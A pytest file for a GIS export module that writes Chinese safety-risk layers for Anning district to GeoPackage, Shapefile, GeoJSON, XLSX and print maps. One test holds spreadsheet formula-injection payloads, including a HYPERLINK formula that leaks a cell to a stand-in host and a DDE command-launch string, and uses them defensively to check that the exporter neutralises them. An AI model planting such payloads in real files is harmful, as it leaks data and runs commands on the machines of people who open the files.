"""Exports checked with real GDAL (ogrinfo), pyogrio, openpyxl and poppler (pdffonts, pdftoppm)."""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
import shutil
import struct
import subprocess
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pyogrio
import pytest
import shapely
from matplotlib import font_manager
from openpyxl import load_workbook
from sqlalchemy import Engine, text

from layers import printmap
from layers.export import (
    EXPORT_FORMATS,
    FORMATS,
    ExportJob,
    ExportSpec,
    Writer,
    export_layers,
    output_epsg,
    record_export,
    shapefile_field_names,
    slugify,
    write_geojson,
    write_gpkg,
    write_shapefiles_zip,
    write_xlsx,
)
from layers.export.hazard_pack import district_hazard_pack
from layers.palette import FOUR_COLOUR, level_label
from layers.printmap import build_figure, legend_labels, nice_length, print_map

ROOT = Path(__file__).resolve().parents[1]
ARTIFACTS = ROOT / "artifacts"
DISTRICTS = ROOT / "data" / "kunming_districts.geojson"
ANNING = "530181"
NAMES = {"风险源": "risk_sources", "重点企业": "enterprises"}
LONG_NOTE = "位于安宁工业园区草铺片区，涉及液氯、液氨储罐及装卸作业，周边有村庄和学校，需重点监管"


# --- fixtures ----------------------------------------------------------------------------------


def _layers() -> dict[str, gpd.GeoDataFrame]:
    sources = gpd.GeoDataFrame(
        {
            "风险点编号": ["RS001", "RS002", "RS003", "RS004"],
            "风险点名称": ["安宁演示化工", "草铺储罐区", "安宁输油管道（段）", "青龙工业园区"],
            "风险等级": ["重大风险", "较大风险", "一般风险", "低风险"],
            "疏散半径(m)": [500.0, 300.0, 150.0, 1000.0],
            "evacuation_note": [LONG_NOTE, "", None, "园区"],
        },
        geometry=[
            shapely.Point(102.4123456789, 24.9012345678),
            shapely.Point(102.3601, 24.8520),
            shapely.LineString([(102.30, 24.85), (102.40, 24.88), (102.50, 24.95)]),
            shapely.Polygon([(102.45, 24.92), (102.47, 24.92), (102.47, 24.94), (102.45, 24.94), (102.45, 24.92)]),
        ],
        crs=4490,
    )
    enterprises = gpd.GeoDataFrame(
        {"名称": ["安宁演示化工有限公司", "昆明草铺演示钢铁有限公司"], "统一社会信用代码": ["91530181MA6K000001", None],
         "从业人员": [120, 860]},
        geometry=[shapely.Point(102.4123456789, 24.9012345678), shapely.Point(102.3601, 24.8520)],
        crs=4490,
    )
    return {"风险源": sources, "重点企业": enterprises}


@pytest.fixture
def layers() -> dict[str, gpd.GeoDataFrame]:
    return _layers()


@pytest.fixture(scope="module")
def anning() -> tuple[gpd.GeoDataFrame, gpd.GeoDataFrame]:
    districts = gpd.read_file(DISTRICTS).to_crs(4490)
    return districts[districts["adcode"] == ANNING], districts[districts["adcode"] != ANNING]


def _map_sources(levels: list[str]) -> gpd.GeoDataFrame:
    geoms = [shapely.Point(102.40, 24.90), shapely.Point(102.45, 24.93), shapely.Point(102.35, 24.80),
             shapely.LineString([(102.30, 24.85), (102.40, 24.88), (102.50, 24.95)]),
             shapely.Point(102.48, 24.98), shapely.Point(102.33, 24.70)]
    geoms = geoms[: len(levels)]
    return gpd.GeoDataFrame({"risk_level": levels, "colour": [FOUR_COLOUR[lv].hex for lv in levels]},  # type: ignore[index]
                            geometry=geoms, crs=4490)


# --- ogrinfo -----------------------------------------------------------------------------------


@dataclass
class OgrLayer:
    name: str
    count: int
    geometry: str
    epsg: int | None
    fields: list[str] = field(default_factory=list)


def ogrinfo(path: Path) -> dict[str, OgrLayer]:
    """Parse ``ogrinfo -ro -so -al`` (GDAL's own reading of the file)."""
    out = subprocess.run(["ogrinfo", "-ro", "-so", "-al", str(path)], capture_output=True, text=True, check=True)
    assert "Warning" not in out.stderr and "ERROR" not in out.stderr, out.stderr
    found: dict[str, OgrLayer] = {}
    for block in re.split(r"^Layer name: ", out.stdout, flags=re.M)[1:]:
        name = block.splitlines()[0].strip()
        count = int(re.search(r"^Feature Count: (\d+)", block, re.M).group(1))  # type: ignore[union-attr]
        geometry = re.search(r"^Geometry: (.+)$", block, re.M).group(1)  # type: ignore[union-attr]
        wkt = block.split("Layer SRS WKT:", 1)[1].split("Data axis to CRS axis mapping", 1)[0]
        ids = re.findall(r'ID\["EPSG",(\d+)\]', wkt)
        fields = re.findall(r"^(\S.*?): (?:String|Integer64|Integer|Real|Date|DateTime)\b", block, re.M)
        found[name] = OgrLayer(name, count, geometry, int(ids[-1]) if ids else None, fields)
    return found


def png_size(path: Path) -> tuple[int, int]:
    head = path.read_bytes()[:24]
    assert head[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = struct.unpack(">II", head[16:24])
    return width, height


# --- spec and names ----------------------------------------------------------------------------


def test_spec_validates_and_formats_are_fixed() -> None:
    assert FORMATS == ("gpkg", "shp", "geojson", "xlsx", "pdf", "png", "hazards")
    spec = ExportSpec(formats=("gpkg", "pdf"), crs="gk", shp_encoding="GBK", title="t", data_date="d", source_note="s")
    with pytest.raises(AttributeError):
        spec.crs = "cgcs2000"  # type: ignore[misc]
    with pytest.raises(ValueError, match="kml"):
        ExportSpec(formats=("kml",))
    with pytest.raises(ValueError, match="crs"):
        ExportSpec(crs="webmercator")  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="shp_encoding"):
        ExportSpec(shp_encoding="Big5")  # type: ignore[arg-type]


def test_slugify_is_ascii_deterministic_and_distinct() -> None:
    assert slugify("Risk Sources-2025") == "risk_sources_2025"
    assert slugify("风险源") == slugify("风险源")
    assert slugify("风险源") != slugify("隐患点")
    assert slugify("A区风险") != slugify("A区隐患")
    for name in ("风险源", "A区 风险源", "重点企业"):
        assert re.fullmatch(r"[a-z0-9][a-z0-9_]*", slugify(name))


def test_short_field_names_fit_ten_bytes_and_are_unique() -> None:
    cols = ["风险点编号", "风险点名称", "风险等级", "疏散半径(m)", "evacuation_note", "evacuation_radius", "2024年产量"]
    for encoding, chinese in (("UTF-8", 3), ("GBK", 5)):
        short = shapefile_field_names(cols, encoding)
        assert all(len(s.encode(encoding)) <= 10 for s in short.values())
        assert len({s.upper() for s in short.values()}) == len(cols)
        assert short == shapefile_field_names(cols, encoding)  # deterministic
        assert short["风险等级"] == "风险等级"[:chinese]
    assert shapefile_field_names(cols, "UTF-8")["风险点名称"] == "风险_1"
    assert shapefile_field_names(cols, "GBK")["疏散半径(m)"] == "疏散半径_m"
    assert shapefile_field_names(cols, "UTF-8")["evacuation_radius"] == "evacuati_1"
    assert shapefile_field_names(cols, "UTF-8")["2024年产量"] == "f2024年"


def test_gk_zone_of_the_layers_centre(layers: dict[str, gpd.GeoDataFrame]) -> None:
    assert output_epsg(layers, "cgcs2000") == 4490
    assert output_epsg(layers, "gk") == 4543  # CM 102°E


# --- GeoPackage --------------------------------------------------------------------------------


def test_gpkg_layers_counts_crs_and_chinese_fields(tmp_path: Path, layers: dict[str, gpd.GeoDataFrame]) -> None:
    path = write_gpkg(layers, tmp_path / "out.gpkg")
    info = ogrinfo(path)
    # 风险源 mixes points, a line and a polygon: one layer per geometry type (geo.geometry_split)
    assert set(info) == {"风险源_点", "风险源_线", "风险源_面", "重点企业"}
    assert {n: lyr.count for n, lyr in info.items()} == {"风险源_点": 2, "风险源_线": 1, "风险源_面": 1, "重点企业": 2}
    assert {n: lyr.geometry for n, lyr in info.items()} == {"风险源_点": "Point", "风险源_线": "Line String",
                                                             "风险源_面": "Polygon", "重点企业": "Point"}
    assert all(lyr.epsg == 4490 for lyr in info.values())
    for part in ("风险源_点", "风险源_线", "风险源_面"):
        assert info[part].fields == ["风险点编号", "风险点名称", "风险等级", "疏散半径(m)", "evacuation_note"]
    assert info["重点企业"].fields == ["名称", "统一社会信用代码", "从业人员"]
    assert pyogrio.list_layers(path)[:, 0].tolist() == ["风险源_点", "风险源_线", "风险源_面", "重点企业"]
    back = [pyogrio.read_dataframe(path, layer=part) for part in ("风险源_点", "风险源_线", "风险源_面")]
    assert [n for b in back for n in b["风险点名称"]] == layers["风险源"]["风险点名称"].tolist()
    assert [t for b in back for t in b.geom_type] == ["Point", "Point", "LineString", "Polygon"]


def test_gpkg_and_shapefiles_in_the_gauss_kruger_zone(tmp_path: Path, layers: dict[str, gpd.GeoDataFrame]) -> None:
    spec = ExportSpec(formats=("gpkg", "shp"), crs="gk")
    written = export_layers(layers, tmp_path, spec, names=NAMES)
    assert {lyr.epsg for lyr in ogrinfo(written["gpkg"][0]).values()} == {4543}
    with zipfile.ZipFile(written["shp"][0]) as zf:
        zf.extractall(tmp_path / "shp")
    info = ogrinfo(tmp_path / "shp" / "enterprises.shp")
    assert info["enterprises"].epsg == 4543
    easting = pyogrio.read_dataframe(tmp_path / "shp" / "enterprises.shp").geometry.x
    assert easting.between(400_000, 600_000).all()  # metres from the CM 102°E false easting, not degrees


# --- Shapefiles --------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["UTF-8", "GBK"])
def test_shapefile_zip_round_trips_chinese(tmp_path: Path, layers: dict[str, gpd.GeoDataFrame],
                                           encoding: str) -> None:
    path = write_shapefiles_zip(layers, tmp_path / "out.zip", encoding=encoding, names=NAMES)  # type: ignore[arg-type]
    folder = tmp_path / "unzipped"
    with zipfile.ZipFile(path) as zf:
        members = set(zf.namelist())
        zf.extractall(folder)
    expected = {f"{stem}.{ext}" for stem in ("risk_sources_pt", "risk_sources_ln", "risk_sources_pg", "enterprises")
                for ext in ("shp", "shx", "dbf", "prj", "cpg")}
    assert members == expected | {"risk_sources_fields.csv", "enterprises_fields.csv"}
    assert all(m.isascii() for m in members)
    for cpg in folder.glob("*.cpg"):
        assert cpg.read_text(encoding="ascii").strip() == encoding

    mapping = read_fields_csv(folder / "risk_sources_fields.csv")
    short = {full: s for s, full in mapping.items()}
    assert all(len(s.encode(encoding)) <= 10 for s in mapping)

    info = {name: lyr for p in folder.glob("*.shp") for name, lyr in ogrinfo(p).items()}
    assert {n: lyr.count for n, lyr in info.items()} == {"risk_sources_pt": 2, "risk_sources_ln": 1,
                                                         "risk_sources_pg": 1, "enterprises": 2}
    assert info["risk_sources_pt"].geometry == "Point" and info["risk_sources_pg"].geometry == "Polygon"
    assert info["risk_sources_pt"].fields == list(mapping)
    assert all(lyr.epsg == 4490 for lyr in info.values())

    src = layers["风险源"]
    points = pyogrio.read_dataframe(folder / "risk_sources_pt.shp", encoding=encoding)
    assert points[short["风险点名称"]].tolist() == ["安宁演示化工", "草铺储罐区"]
    assert points[short["风险等级"]].tolist() == ["重大风险", "较大风险"]
    assert points[short["疏散半径(m)"]].tolist() == [500.0, 300.0]
    assert points[short["evacuation_note"]].iloc[0] == LONG_NOTE
    line = pyogrio.read_dataframe(folder / "risk_sources_ln.shp", encoding=encoding)
    assert line[short["风险点名称"]].tolist() == ["安宁输油管道（段）"]
    assert shapely.equals_exact(line.geometry.iloc[0], src.geometry.iloc[2], tolerance=1e-9)
    firms = pyogrio.read_dataframe(folder / "enterprises.shp", encoding=encoding)
    firm_names = {full: s for s, full in read_fields_csv(folder / "enterprises_fields.csv").items()}
    assert firms[firm_names["名称"]].tolist() == ["安宁演示化工有限公司", "昆明草铺演示钢铁有限公司"]

    dbf = (folder / "risk_sources_pt.dbf").read_bytes()
    assert "安宁演示化工".encode(encoding) in dbf
    if encoding == "GBK":
        assert "安宁演示化工".encode() not in dbf
        try:
            wrong = pyogrio.read_dataframe(folder / "risk_sources_pt.shp", encoding="UTF-8")
        except UnicodeDecodeError:
            pass  # GBK bytes are not valid UTF-8
        else:
            assert "安宁演示化工" not in wrong.astype(str).to_numpy().ravel().tolist()


def read_fields_csv(path: Path) -> dict[str, str]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, so Excel shows the Chinese names
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0] == ["short_name", "full_name"]
    return dict(rows[1:])


def test_fields_csv_maps_short_to_full_names(tmp_path: Path, layers: dict[str, gpd.GeoDataFrame]) -> None:
    path = write_shapefiles_zip(layers, tmp_path / "out.zip", names=NAMES)
    with zipfile.ZipFile(path) as zf:
        zf.extractall(tmp_path)
    assert read_fields_csv(tmp_path / "risk_sources_fields.csv") == {
        "风险点": "风险点编号", "风险_1": "风险点名称", "风险等": "风险等级", "疏散半": "疏散半径(m)",
        "evacuation": "evacuation_note"}


def test_default_shapefile_names_are_ascii_slugs(tmp_path: Path, layers: dict[str, gpd.GeoDataFrame]) -> None:
    path = write_shapefiles_zip({"重点企业": layers["重点企业"]}, tmp_path / "out.zip", encoding="GBK")
    with zipfile.ZipFile(path) as zf:
        names = sorted(zf.namelist())
    stem = slugify("重点企业")
    assert names == sorted([f"{stem}.{e}" for e in ("shp", "shx", "dbf", "prj", "cpg")] + [f"{stem}_fields.csv"])


def test_gbk_refuses_text_it_cannot_encode(tmp_path: Path, layers: dict[str, gpd.GeoDataFrame]) -> None:
    firms = layers["重点企业"].copy()
    firms.loc[1, "名称"] = "演示企业😀"
    with pytest.raises(ValueError, match=r"重点企业.*GBK"):
        write_shapefiles_zip({"重点企业": firms}, tmp_path / "out.zip", encoding="GBK")
    write_shapefiles_zip({"重点企业": firms}, tmp_path / "out.zip", encoding="UTF-8")


def test_bad_or_clashing_file_names_are_refused(tmp_path: Path, layers: dict[str, gpd.GeoDataFrame]) -> None:
    with pytest.raises(ValueError, match="风险源"):
        write_shapefiles_zip(layers, tmp_path / "out.zip", names={"风险源": "风险源"})
    with pytest.raises(ValueError, match="share the file name"):
        write_geojson(layers, tmp_path, names={"风险源": "same", "重点企业": "SAME"})


# --- GeoJSON -----------------------------------------------------------------------------------


def test_geojson_is_rfc7946_lonlat_with_exact_coordinates(tmp_path: Path,
                                                          layers: dict[str, gpd.GeoDataFrame]) -> None:
    paths = write_geojson(layers, tmp_path / "geojson", names=NAMES)
    # the mixed 风险源 layer is one file per geometry type, like the Shapefiles
    assert [p.name for p in paths] == ["risk_sources_pt.geojson", "risk_sources_ln.geojson",
                                       "risk_sources_pg.geojson", "enterprises.geojson"]
    src = layers["风险源"]
    parts = [src.iloc[[0, 1]], src.iloc[[2]], src.iloc[[3]], layers["重点企业"]]
    for path, gdf in zip(paths, parts, strict=True):
        doc = json.loads(path.read_text(encoding="utf-8"))
        assert "crs" not in doc and doc["type"] == "FeatureCollection"
        info = ogrinfo(path)
        assert next(iter(info.values())).epsg == 4326
        assert next(iter(info.values())).geometry in ("Point", "Line String", "Polygon")
        assert next(iter(info.values())).count == len(gdf)
        back = pyogrio.read_dataframe(path)
        assert back.crs.to_epsg() == 4326
        got = shapely.get_coordinates(back.geometry.values)
        want = shapely.get_coordinates(shapely.orient_polygons(gdf.geometry.values))
        np.testing.assert_allclose(got, want, rtol=0, atol=1e-9)
        assert back.drop(columns="geometry").columns.tolist() == gdf.drop(columns="geometry").columns.tolist()
    first = json.loads(paths[0].read_text(encoding="utf-8"))["features"][0]
    assert first["properties"]["风险点名称"] == "安宁演示化工"
    assert first["geometry"]["coordinates"] == pytest.approx([102.4123456789, 24.9012345678], abs=1e-9)


# --- XLSX --------------------------------------------------------------------------------------


def test_xlsx_sheets_headers_widths_and_lonlat(tmp_path: Path, layers: dict[str, gpd.GeoDataFrame]) -> None:
    long_name = "安宁市重点监管危险化学品企业及其周边敏感目标统计清单汇总表（2025年度）"
    assert len(long_name) > 31
    tables = {**layers, long_name: layers["重点企业"].drop(columns="geometry")}
    path = write_xlsx(tables, tmp_path / "out.xlsx", title="安宁市安全风险清单", data_date="2025-06-30",
                      source_note="安宁市应急管理局（演示）")
    wb = load_workbook(path)
    assert wb.sheetnames[:3] == ["说明", "风险源", "重点企业"]
    assert wb.sheetnames[3] == long_name[:31] and len(wb.sheetnames[3]) == 31
    info = wb["说明"]
    values = [c for row in info.iter_rows(values_only=True) for c in row if c is not None]
    assert {"安宁市安全风险清单", "2025-06-30", "安宁市应急管理局（演示）"} <= set(values)
    assert any("EPSG:4490" in str(v) for v in values)

    ws = wb["风险源"]
    headers = [c.value for c in ws[1]]
    assert headers == ["风险点编号", "风险点名称", "风险等级", "疏散半径(m)", "evacuation_note", "经度", "纬度"]
    assert "geometry" not in headers
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.max_row == 5
    default = 8.43  # Excel's default column width
    assert ws.column_dimensions["E"].width > 40  # the long Chinese note, counted double, capped at 60
    assert ws.column_dimensions["E"].width <= 60
    assert ws.column_dimensions["B"].width > default
    lon, lat = ws.cell(row=2, column=6).value, ws.cell(row=2, column=7).value
    assert lon == pytest.approx(102.4123456789, abs=1e-12) and lat == pytest.approx(24.9012345678, abs=1e-12)
    assert ws.cell(row=4, column=6).value is None  # the line has no single lon/lat
    assert ws.cell(row=2, column=2).value == "安宁演示化工"

    firms = wb["重点企业"]
    assert [c.value for c in firms[1]] == ["名称", "统一社会信用代码", "从业人员", "经度", "纬度"]
    assert firms.cell(row=3, column=2).value is None
    assert firms.cell(row=3, column=3).value == 860
    assert "经度" not in [c.value for c in wb[long_name[:31]][1]]


HYPERLINK = '=HYPERLINK("http://x/?"&A1,"点击")'
DDE = "=cmd|' /C calc'!A0"
ATTACKS = [HYPERLINK, DDE, "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def test_xlsx_text_is_never_a_formula(tmp_path: Path, layers: dict[str, gpd.GeoDataFrame]) -> None:
    n = len(ATTACKS)
    firms = gpd.GeoDataFrame({"名称": ATTACKS, "说明": [f"{a} 之后" for a in ATTACKS], "负数": [-3.5] * n,
                              "人数": list(range(-3, n - 3))},
                             geometry=[shapely.Point(102.4 + i / 100, 24.9) for i in range(n)], crs=4490)
    table = firms.drop(columns="geometry").assign(**{"=SUM(A1)": ATTACKS})
    path = write_xlsx({"企业": firms, "表": table}, tmp_path / "out.xlsx", title=HYPERLINK, data_date="-1",
                      source_note=DDE)
    wb = load_workbook(path)
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                # a stored CR reads back as LF unless openpyxl wrote it as &#13; (it does with lxml)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\n", "\r")):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                    seen += 1
    assert seen >= 3 * n + 4  # every attack, in two sheets and a header, plus the info sheet texts
    ws = wb["企业"]
    stored = ATTACKS if openpyxl.LXML else [a.replace("\r", "\n") for a in ATTACKS]
    assert [c.value for c in ws["A"][1:]] == stored  # the text itself
    assert {c.data_type for c in ws["C"][1:]} == {"n"} and ws["C2"].value == -3.5  # negative numbers stay numbers
    assert [c.value for c in ws["D"][1:]] == list(range(-3, n - 3))
    assert wb["表"]["E1"].value == "=SUM(A1)" and wb["表"]["E1"].data_type == "s"
    assert wb["说明"]["B1"].value == HYPERLINK and wb["说明"]["B3"].value == DDE


def test_number_only_columns_are_numeric_gis_fields(tmp_path: Path) -> None:
    gdf = gpd.GeoDataFrame({"R值": pd.Series([59.04, None, 196.8], dtype=object),
                            "外部安全防护距离(m)": pd.Series([390.0, None, 1200.0], dtype=object),
                            "等级": pd.Series([1, None, 2], dtype=object),
                            "编号": pd.Series(["001", None, "-2"], dtype=object)},
                           geometry=[shapely.Point(102.4 + i / 10, 24.9) for i in range(3)], crs=4490)
    gpkg = write_gpkg({"清单": gdf}, tmp_path / "out.gpkg")
    out = subprocess.run(["ogrinfo", "-ro", "-so", "-al", str(gpkg)], capture_output=True, text=True, check=True).stdout
    assert re.search(r"^R值: Real", out, re.M) and re.search(r"^外部安全防护距离\(m\): Real", out, re.M)
    assert re.search(r"^等级: Integer64", out, re.M) and re.search(r"^编号: String", out, re.M)
    back = pyogrio.read_dataframe(gpkg)
    assert back["R值"].tolist()[::2] == [59.04, 196.8] and np.isnan(back["R值"][1])
    assert back["编号"].tolist()[::2] == ["001", "-2"] and pd.isna(back["编号"][1])  # codes stay text
    zipped = write_shapefiles_zip({"清单": gdf}, tmp_path / "out.zip", names={"清单": "lst"})
    with zipfile.ZipFile(zipped) as zf:
        zf.extractall(tmp_path / "shp")
    shp = subprocess.run(["ogrinfo", "-ro", "-so", "-al", str(tmp_path / "shp" / "lst.shp")], capture_output=True,
                         text=True, check=True).stdout
    assert re.search(r"^R值: Real", shp, re.M) and not re.search(r"^R值: String", shp, re.M)


def test_single_and_multi_parts_make_one_multi_layer(tmp_path: Path) -> None:
    lines = gpd.GeoDataFrame({"名称": ["a", "b"]}, crs=4490, geometry=[
        shapely.LineString([(102.3, 24.8), (102.4, 24.9)]),
        shapely.MultiLineString([[(102.5, 24.8), (102.6, 24.9)], [(102.7, 24.8), (102.8, 24.9)]])])
    info = ogrinfo(write_gpkg({"管道": lines}, tmp_path / "out.gpkg"))
    assert {n: (lyr.geometry, lyr.count) for n, lyr in info.items()} == {"管道": ("Multi Line String", 2)}


def test_fields_csv_neutralises_formula_like_names(tmp_path: Path) -> None:
    gdf = gpd.GeoDataFrame({"=SUM(A1)": [1], "名称": ["x"]}, geometry=[shapely.Point(102.4, 24.9)], crs=4490)
    with zipfile.ZipFile(write_shapefiles_zip({"t": gdf}, tmp_path / "out.zip")) as zf:
        zf.extractall(tmp_path)
    assert read_fields_csv(tmp_path / "t_fields.csv") == {"SUM_A1": "'=SUM(A1)", "名称": "名称"}


# --- errors ------------------------------------------------------------------------------------


def test_empty_input_is_refused_with_the_layer_name(tmp_path: Path, layers: dict[str, gpd.GeoDataFrame]) -> None:
    empty = {"风险源": layers["风险源"], "空图层": layers["重点企业"].iloc[0:0]}
    for call in (lambda: write_gpkg(empty, tmp_path / "a.gpkg"),
                 lambda: write_shapefiles_zip(empty, tmp_path / "a.zip"),
                 lambda: write_geojson(empty, tmp_path),
                 lambda: write_xlsx(empty, tmp_path / "a.xlsx", title="", data_date="", source_note="")):
        with pytest.raises(ValueError, match="空图层"):
            call()
    with pytest.raises(ValueError, match="no layers"):
        write_gpkg({}, tmp_path / "b.gpkg")
    with pytest.raises(ValueError, match="district_outline and sources"):
        export_layers(layers, tmp_path, ExportSpec(formats=("pdf",)))


# --- print map ---------------------------------------------------------------------------------


def test_print_map_pdf_embeds_cjk_font_and_is_landscape(tmp_path: Path, anning: tuple[gpd.GeoDataFrame, ...]) -> None:
    outline, context = anning
    sources = _map_sources(["major", "significant", "general", "general", "low"])
    pdf = print_map(tmp_path / "map.pdf", district_outline=outline, sources=sources, title="安宁市安全风险四色分布图",
                    data_date="2025-06-30", source_note="安宁市应急管理局（演示数据）", context=context)
    fonts = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True, check=True).stdout
    assert re.search(r"NotoSansCJK\S*\s.*\byes\b", fonts), fonts  # embedded
    page = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert "重大风险" in page and "安宁市安全风险四色分布图" in page
    subprocess.run(["pdftoppm", "-png", "-r", "50", "-f", "1", "-l", "1", str(pdf), str(tmp_path / "page")], check=True)
    rendered = next(tmp_path.glob("page*.png"))
    assert rendered.stat().st_size > 10_000
    width, height = png_size(rendered)
    assert width > height


def test_print_map_png_is_a4_landscape(tmp_path: Path, anning: tuple[gpd.GeoDataFrame, ...]) -> None:
    outline, context = anning
    sources = _map_sources(["major", "significant", "general", "general", "low", "major"])
    png = print_map(tmp_path / "map.png", district_outline=outline, sources=sources, title="安宁市安全风险四色分布图",
                    data_date="2025-06-30", source_note="安宁市应急管理局 风险源普查（演示数据）", context=context)
    width, height = png_size(png)
    assert (width, height) == pytest.approx((1754, 1240), abs=2)  # A4 at 150 dpi
    assert png.stat().st_size > 50_000
    ARTIFACTS.mkdir(exist_ok=True)
    shutil.copyfile(png, ARTIFACTS / "printmap_test.png")


def test_legend_always_lists_the_four_levels(anning: tuple[gpd.GeoDataFrame, ...]) -> None:
    outline, _ = anning
    fig = build_figure(district_outline=outline, sources=_map_sources(["major", "low"]), title="安宁市",
                       data_date="2025-06-30", source_note="演示")
    labels = legend_labels(fig)
    assert labels[:4] == ["重大风险（1 处）", "较大风险（0 处）", "一般风险（0 处）", "低风险（1 处）"]
    assert all(labels[i].startswith(level_label(lv)) for i, lv in enumerate(FOUR_COLOUR))
    english = legend_labels(build_figure(district_outline=outline, sources=_map_sources(["general"]), title="Anning",
                                         data_date="2025-06-30", source_note="demo", lang="en"))
    assert english[:4] == ["Major risk (0)", "Significant risk (0)", "General risk (1)", "Low risk (0)"]


def test_print_map_refuses_bad_input(tmp_path: Path, anning: tuple[gpd.GeoDataFrame, ...]) -> None:
    outline, _ = anning
    with pytest.raises(ValueError, match=r"\.svg"):
        print_map(tmp_path / "map.svg", district_outline=outline, sources=_map_sources(["low"]), title="",
                  data_date="", source_note="")
    bad = _map_sources(["low"]).assign(risk_level=["extreme"])
    with pytest.raises(ValueError, match="extreme"):
        build_figure(district_outline=outline, sources=bad, title="", data_date="", source_note="")


def test_missing_cjk_font_is_a_clear_error(monkeypatch: pytest.MonkeyPatch,
                                           anning: tuple[gpd.GeoDataFrame, ...]) -> None:
    latin_only = [f for f in font_manager.fontManager.ttflist if "CJK" not in f.name]
    monkeypatch.setattr(font_manager.fontManager, "ttflist", latin_only)
    monkeypatch.setattr(printmap, "CJK_FAMILIES", ("No Such Font SC",))
    monkeypatch.setattr(printmap, "CJK_FILES", ())
    printmap.cjk_font.cache_clear()
    try:
        with pytest.raises(RuntimeError, match="fonts-noto-cjk"):
            build_figure(district_outline=anning[0], sources=_map_sources(["low"]), title="", data_date="",
                         source_note="")
    finally:
        printmap.cjk_font.cache_clear()


def test_scale_bar_lengths_are_round() -> None:
    assert [nice_length(x) for x in (7300.0, 12_000.0, 2500.0, 0.8)] == [5000.0, 10_000.0, 2000.0, 0.5]


# --- everything, audited -----------------------------------------------------------------------


@pytest.mark.postgis
def test_export_layers_writes_all_formats_and_audits(tmp_path: Path, layers: dict[str, gpd.GeoDataFrame],
                                                     anning: tuple[gpd.GeoDataFrame, ...], engine: Engine) -> None:
    outline, _ = anning
    spec = ExportSpec(formats=FORMATS, crs="cgcs2000", shp_encoding="GBK", title="安宁市安全风险",
                      data_date="2025-06-30", source_note="演示")
    hazards = district_hazard_pack(engine, ANNING, title="安宁市隐患台账", today=dt.date(2025, 6, 30))
    with engine.begin() as conn:
        written = export_layers(layers, tmp_path, spec, names=NAMES, district_outline=outline,
                                sources=_map_sources(["major", "low"]), hazards=hazards, conn=conn, actor="tester",
                                adcode=ANNING)
    assert set(written) == set(FORMATS)
    assert [p.name for p in written["hazards"]] == ["riskmap_hazards.xlsx", "manifest.csv"]  # no hazards, no files
    with pytest.raises(ValueError, match="format 'hazards' needs"):
        export_layers(layers, tmp_path / "no", ExportSpec(formats=("hazards",)), names=NAMES)
    assert all(p.exists() for paths in written.values() for p in paths)
    with engine.connect() as conn:
        row = conn.execute(text("SELECT actor, action, target, adcode, details FROM audit_log "
                                "WHERE action = 'export'")).one()
    assert row.actor == "tester" and row.adcode == ANNING and row.target == ",".join(FORMATS)
    assert row.details["layers"] == {"风险源": 4, "重点企业": 2} and row.details["epsg"] == 4490
    assert "riskmap_map.pdf" in row.details["files"]


# --- the table of formats, the audit entry, no import cycle -------------------------------------


def test_export_formats_table_describes_every_format() -> None:
    assert tuple(EXPORT_FORMATS) == FORMATS
    suffixes = [w.suffix for w in EXPORT_FORMATS.values()]
    assert len(set(suffixes)) == len(suffixes)
    for code, writer in EXPORT_FORMATS.items():
        assert writer.label("zh") == writer.label_zh and writer.label("en") == writer.label_en
        assert writer.label_zh and writer.label_en and "/" in writer.media_type
        assert code in writer.suffix
    with pytest.raises(TypeError):
        EXPORT_FORMATS["kml"] = EXPORT_FORMATS["gpkg"]  # type: ignore[index]


def test_a_new_format_is_one_writer_and_one_row(tmp_path: Path, layers: dict[str, gpd.GeoDataFrame],
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    from layers.export import formats

    def write_csv(job: ExportJob, target: Path) -> list[Path]:
        target.parent.mkdir(parents=True, exist_ok=True)
        pd.DataFrame({"图层": list(job.layers), "记录数": [len(g) for g in job.layers.values()]}).to_csv(target)
        return [target]

    table = {**EXPORT_FORMATS, "csv": Writer(".csv", "text/csv", "CSV 表", "CSV table", write_csv)}
    monkeypatch.setattr(formats, "EXPORT_FORMATS", table)
    written = export_layers(layers, tmp_path, ExportSpec(formats=("csv", "gpkg")), stem="t")
    assert written == {"csv": [tmp_path / "t.csv"], "gpkg": [tmp_path / "t.gpkg"]}
    assert pd.read_csv(tmp_path / "t.csv")["记录数"].tolist() == [len(g) for g in layers.values()]
    monkeypatch.undo()
    with pytest.raises(ValueError, match="csv"):
        ExportSpec(formats=("csv",))


def test_print_map_does_not_import_the_export_package() -> None:
    code = ("import sys, layers.printmap, layers.reasons_report; "
            "print(sorted(m for m in sys.modules if m == 'layers.export' or m.startswith('layers.export.')))")
    out = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


@pytest.mark.postgis
def test_record_export_is_the_one_export_entry(engine: Engine) -> None:
    with engine.begin() as conn:
        record_export(conn, actor="tester", target="hazard_ledger", adcode=ANNING, details={"rows": 3})
    with engine.connect() as conn:
        row = conn.execute(text("SELECT actor, action, target, adcode, details FROM audit_log "
                                "WHERE target = 'hazard_ledger'")).one()
    assert (row.actor, row.action, row.adcode, row.details) == ("tester", "export", ANNING, {"rows": 3})
